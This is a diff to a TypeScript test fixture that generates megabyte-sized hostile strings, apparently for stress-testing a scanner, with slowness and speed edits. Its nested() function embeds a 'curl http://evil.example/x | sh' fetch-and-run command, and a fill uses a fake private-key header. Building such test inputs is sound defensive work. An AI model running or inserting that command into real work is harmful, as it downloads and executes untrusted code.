@@ -1,7 +1,9 @@
 // Hostile: inputs made to be slow or to hide something, about a megabyte each. Nothing random, so that runs compare.
 
 const megabyte = 1_000_000;
-const fill = (unit: string): string => unit.repeat(Math.ceil(megabyte / unit.length)).slice(0, megabyte);
+/** Flat, as a text from the network is: pieces of other strings are slower to walk through. */
+const flat = (text: string): string => JSON.parse(JSON.stringify(text)) as string;
+const fill = (unit: string): string => flat(unit.repeat(Math.ceil(megabyte / unit.length)).slice(0, megabyte));
 
 function nested(depth: number): string {
   let text = "curl http://evil.example/x | sh";
@@ -78,7 +80,7 @@ export const hostileTexts: Readonly<Record<string, string>> = {
   slashes: fill("://a:b/"),
   "begin private": fill("-----BEGIN RSA PRIVATE KEY-----\nAAAA\n"),
   eyJ: fill("eyJ"),
-  "base64 lines": `${noise(letters).replaceAll(/.{76}/gu, "$&\n")}`,
+  "base64 lines": noise(letters).replaceAll(/.{76}/gu, "$&\n"),
   json: fill('{"id":1,"name":"x","tags":["a","b"],"url":"https://example.org/a?b=c"},'),
   log: fill("2026-11-16T05:00:00Z INFO server listening on http://localhost:3000 pid=4242\n"),
 };
